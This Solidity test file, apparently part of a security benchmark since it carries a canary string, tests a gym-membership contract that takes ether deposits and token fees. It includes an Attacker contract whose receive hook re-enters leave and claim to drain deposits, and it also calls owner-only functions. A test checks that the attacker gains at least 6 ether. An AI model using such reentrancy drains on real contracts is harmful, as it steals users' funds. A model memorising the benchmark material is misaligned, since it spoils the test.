// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "@openzeppelin/contracts@4.9.6/token/ERC20/extensions/ERC20Permit.sol";
import "./GymMemberships.sol";

// assay-canary-ee85da3f-de6f-412b-beee-2b09f8b0f50f

interface Vm {
    function addr(uint256 key) external returns (address);
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usd is ERC20Permit("Dollar") {
    address private immutable minter = msg.sender;

    constructor() ERC20("Dollar", "USD") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

// A member whose account takes no ether.
contract Closed {
    function join(GymMemberships gym) external payable {
        gym.join{value: msg.value}();
    }

    function leave(GymMemberships gym) external {
        gym.leave();
    }

    function claim(GymMemberships gym, address payable to) external {
        gym.claim(to);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant KEY = 77;
    uint256 private constant START = 1_690_000_000;

    Usd private usd;
    GymMemberships private gym;
    Closed private closed;
    Attacker private mallory;
    address private cara;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        gym = new GymMemberships(usd, 40e18);
        closed = new Closed();
        cara = vm.addr(KEY);
        address[7] memory all = [ANA, BEN, cara, address(0xD1), address(0xD2), address(0xD3), address(0xD4)];
        for (uint256 i = 0; i < 7; i++) {
            vm.deal(all[i], 3 ether);
            usd.mint(all[i], 1_000e18);
            vm.startPrank(all[i]);
            usd.approve(address(gym), i == 2 ? 0 : 1_000e18);
            gym.join{value: 1 ether}();
            vm.stopPrank();
        }
        vm.deal(address(this), 2 ether);
        (bool ok, ) = address(gym).call{value: 1 ether}("");
        require(ok, "gift");
        mallory = new Attacker(gym, usd);
        vm.deal(address(mallory), 1 ether);
        usd.mint(address(mallory), 100e18);
    }

    function permit(uint256 value) private returns (uint8 v, bytes32 r, bytes32 s) {
        bytes32 hash = keccak256(
            abi.encode(
                keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"),
                cara,
                address(gym),
                value,
                usd.nonces(cara),
                START + 1 days
            )
        );
        return vm.sign(KEY, keccak256(abi.encodePacked(hex"1901", usd.DOMAIN_SEPARATOR(), hash)));
    }

    function test_Regular() public {
        require(gym.memberCount() == 7 && gym.memberAt(0) == ANA && gym.till() == 1 ether, "seven");
        vm.prank(ANA);
        gym.pay(3);
        require(gym.paidUntil(ANA) == START + 90 days && usd.balanceOf(address(gym)) == 120e18, "paid");
        (uint8 v, bytes32 r, bytes32 s) = permit(80e18);
        vm.startPrank(cara);
        gym.payWithPermit(1, 80e18, START + 1 days, v, r, s);
        gym.payWithPermit(1, 80e18, START + 1 days, v, r, s);
        vm.stopPrank();
        require(gym.paidUntil(cara) == START + 60 days && gym.mayEnter(cara), "paid by permit, used once");
        vm.prank(BEN);
        gym.leave();
        require(BEN.balance == 3 ether && gym.memberCount() == 6, "left");

        vm.deal(address(this), 2 ether);
        closed.join{value: 1 ether}(gym);
        closed.leave(gym);
        require(gym.owed(address(closed)) == 1 ether && gym.memberCount() == 6, "owed");
        closed.claim(gym, payable(BEN));
        require(BEN.balance == 4 ether && gym.owed(address(closed)) == 0, "claimed");

        address payable[] memory helpers = new address payable[](2);
        (helpers[0], helpers[1]) = (payable(BEN), payable(address(closed)));
        gym.thank(helpers, 0.25 ether);
        require(BEN.balance == 4.25 ether && gym.owed(address(closed)) == 0.25 ether, "thanked");
        require(gym.till() == 0.5 ether, "till");
        vm.warp(START + 121 days);
        require(!gym.mayEnter(cara), "late");
        gym.putOut(address(0xD1));
        require(gym.till() == 1.5 ether && gym.memberCount() == 5, "put out");
        vm.startPrank(cara);
        usd.approve(address(gym), 40e18);
        gym.pay(1);
        vm.stopPrank();
        require(gym.paidUntil(cara) == START + 151 days, "from now on");
        gym.collect(payable(BEN), 1.5 ether, 240e18);
        require(BEN.balance == 5.75 ether && usd.balanceOf(BEN) == 1_240e18 && gym.till() == 0, "collected");
        gym.setFee(50e18);
        require(gym.fee() == 50e18 && address(gym).balance == 5.25 ether, "deposits and what is owed");
        gym.transferOwnership(ANA);
        vm.prank(ANA);
        gym.renounceOwnership();
    }

    function test_RefusesMembers() public {
        vm.startPrank(ANA);
        vm.expectRevert("one ether");
        gym.join{value: 0.5 ether}();
        vm.expectRevert(abi.encodeWithSelector(GymMemberships.AlreadyIn.selector, ANA));
        gym.join{value: 1 ether}();
        vm.expectRevert("how many months?");
        gym.pay(0);
        vm.expectRevert("how many months?");
        gym.pay(25);
        vm.expectRevert("nothing owed");
        gym.claim(payable(ANA));
        vm.stopPrank();
        vm.prank(cara);
        vm.expectRevert("ERC20: insufficient allowance");
        gym.payWithPermit(1, 40e18, START + 1 days, 27, 0, 0);
    }

    function test_RefusesOthers() public {
        vm.expectRevert(abi.encodeWithSelector(GymMemberships.NotAMember.selector, address(this)));
        gym.leave();
        vm.expectRevert(abi.encodeWithSelector(GymMemberships.NotAMember.selector, address(this)));
        gym.pay(1);
        vm.warp(START + 365 days);
        vm.expectRevert(abi.encodeWithSelector(GymMemberships.NotAMember.selector, address(this)));
        gym.putOut(address(this));
    }

    function test_RefusesStrangers() public {
        vm.warp(START + 365 days);
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        gym.putOut(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        gym.setFee(1);
        vm.expectRevert("Ownable: caller is not the owner");
        gym.thank(new address payable[](0), 1);
        vm.expectRevert("Ownable: caller is not the owner");
        gym.collect(payable(ANA), 0, 0);
        vm.stopPrank();
    }

    function test_RefusesTheHouse() public {
        vm.expectRevert("no fee");
        gym.setFee(0);
        vm.warp(START + 90 days);
        vm.expectRevert(abi.encodeWithSelector(GymMemberships.NotLate.selector, ANA, START));
        gym.putOut(ANA);
        vm.expectRevert(abi.encodeWithSelector(GymMemberships.TooMuch.selector, 1 ether + 2, 1 ether));
        gym.thank(new address payable[](2), 0.5 ether + 1);
        vm.expectRevert(abi.encodeWithSelector(GymMemberships.TooMuch.selector, 1 ether + 1, 1 ether));
        gym.collect(payable(ANA), 1 ether + 1, 0);
    }

    function exploit() public {
        mallory.run();
        vm.warp(START + 200 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 6 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(gym);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    receive() external payable {}
}

contract Attacker {
    GymMemberships private gym;
    bool private open = true;
    uint256 private more;

    constructor(GymMemberships gym_, IERC20 usd) {
        gym = gym_;
        usd.approve(address(gym), type(uint256).max);
    }

    function attempt(bytes memory data, uint256 value) private {
        (bool done, ) = address(gym).call{value: value}(data);
        done;
    }

    function run() external {
        // the deposit more than once, where it arrives, where it does not, and in the middle of its way
        attempt(abi.encodeCall(gym.join, ()), 1 ether);
        attempt(abi.encodeCall(gym.pay, (1)), 0);
        for (uint256 i = 0; i < 3; i++) attempt(abi.encodeCall(gym.leave, ()), 0);
        attempt(abi.encodeCall(gym.join, ()), 1 ether);
        open = false;
        for (uint256 i = 0; i < 2; i++) attempt(abi.encodeCall(gym.leave, ()), 0);
        open = true;
        for (uint256 i = 0; i < 2; i++) attempt(abi.encodeCall(gym.claim, (payable(address(this)))), 0);
        attempt(abi.encodeCall(gym.join, ()), 1 ether);
        more = 3;
        attempt(abi.encodeCall(gym.leave, ()), 0);
        more = 0;
        // what is not one's own
        attempt(abi.encodeCall(gym.putOut, (address(0xA9A))), 0);
        attempt(abi.encodeCall(gym.collect, (payable(address(this)), 1 ether, 0)), 0);
        attempt(abi.encodeCall(gym.claim, (payable(address(this)))), 0);
    }

    receive() external payable {
        require(open, "closed");
        if (more > 0) {
            more--;
            attempt(abi.encodeCall(gym.leave, ()), 0);
            attempt(abi.encodeCall(gym.claim, (payable(address(this)))), 0);
        }
    }
}
